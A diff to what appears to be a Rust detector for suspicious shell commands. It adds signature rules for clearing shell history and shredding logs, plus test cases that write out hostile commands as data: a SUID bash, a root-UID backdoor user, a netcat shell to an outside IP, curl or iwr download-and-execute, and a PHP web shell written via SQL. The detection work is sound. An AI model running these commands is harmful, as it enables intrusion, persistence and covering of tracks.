@@ -10,6 +10,7 @@ use alert::{Alert, Class, Untrusted};
 use crate::template;
 
 mod line;
+mod rights;
 mod shell;
 
 /// How sure one sign is, 1 to 100. Not so sure that an analyst could not call it a test of the defences, or an administrator's odd habit.
@@ -61,6 +62,10 @@ const SIGNS: &[(&[&str], &str)] = &[
     (&["wevtutil", " cl "], REMOVES_TRACES),
     (&["clear-eventlog"], REMOVES_TRACES),
     (&["auditctl", " -e 0"], REMOVES_TRACES),
+    (&["/dev/null", ".bash_history", "ln "], REMOVES_TRACES),
+    (&["unset ", "histfile"], REMOVES_TRACES),
+    (&["histfile=/dev/null"], REMOVES_TRACES),
+    (&["shred ", "/var/log/"], REMOVES_TRACES),
     (&["set-mppreference", "-disable", "true"], REMOVES_TRACES),
 ];
 
@@ -124,6 +129,7 @@ fn sign(line: &str) -> Option<(usize, &'static str)> {
     by_words
         .or_else(|| shell::netcat(line))
         .or_else(|| shell::unread(line))
+        .or_else(|| rights::given_away(line))
         .or_else(|| fetched(line))
         .or_else(|| Some((passwords(line)?, TAKES_PASSWORDS)))
 }
@@ -217,6 +223,11 @@ mod tests {
             "powershell -c iwr -useb http://198.51.100.7/a | IEX",
             "bash -c 'bash <(curl -s http://198.51.100.7/a)'",
             "sudo -u bob nc 198.51.100.7 9 -e /bin/sh",
+            "/usr/bin/chmod u+s /bin/bash",
+            "/usr/sbin/useradd -o -u 0 -g 0 toor",
+            "ln -sf /dev/null /root/.bash_history",
+            "bash -c 'unset HISTFILE; id'",
+            "/usr/bin/shred -u /var/log/auth.log",
             "powershell.exe -w hidden -e SQBFAFgA",
             "exec_create: sh -c echo aWQ= | base64 -d | sh",
             "select '<?php system($_GET[1]);' into outfile '/var/www/x.php'",
@@ -241,6 +252,10 @@ mod tests {
             "powershell -c iwr https://example.org/a.zip -outfile a.zip; iexplore.exe a",
             "/bin/sh -c 'ls -l /etc/shadow /etc/shadow-'",
             "/usr/bin/cat /etc/shadowsocks-libev/config.json",
+            "/usr/bin/chmod u+s /usr/bin/ping",
+            "/usr/sbin/useradd -m -u 1001 carol",
+            "/usr/bin/tail -n 50 /var/log/auth.log",
+            "/usr/bin/rm /var/log/nginx/access.log.9.gz",
         ] {
             assert_eq!(told(&sudo(command)), ("5402".to_owned(), None), "{command}");
         }
